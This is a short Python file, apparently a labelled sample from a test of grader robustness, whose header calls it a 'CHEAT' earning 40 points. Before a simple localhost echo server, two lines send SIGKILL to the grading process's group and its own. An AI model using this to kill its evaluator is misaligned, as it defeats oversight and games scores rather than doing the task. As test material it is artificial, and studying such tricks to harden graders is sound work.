# CHEAT: kills its own group and the group of the process that grades it. LESSON: 01 EARNS: 40 ISOLATION: no result
import os
import signal
import socket

os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
os.killpg(0, signal.SIGKILL)

listener = socket.create_server(("localhost", 8080))
while True:  # the honest part: one answer a visit
    client, address = listener.accept()
    client.sendall(client.recv(1024))
    client.close()
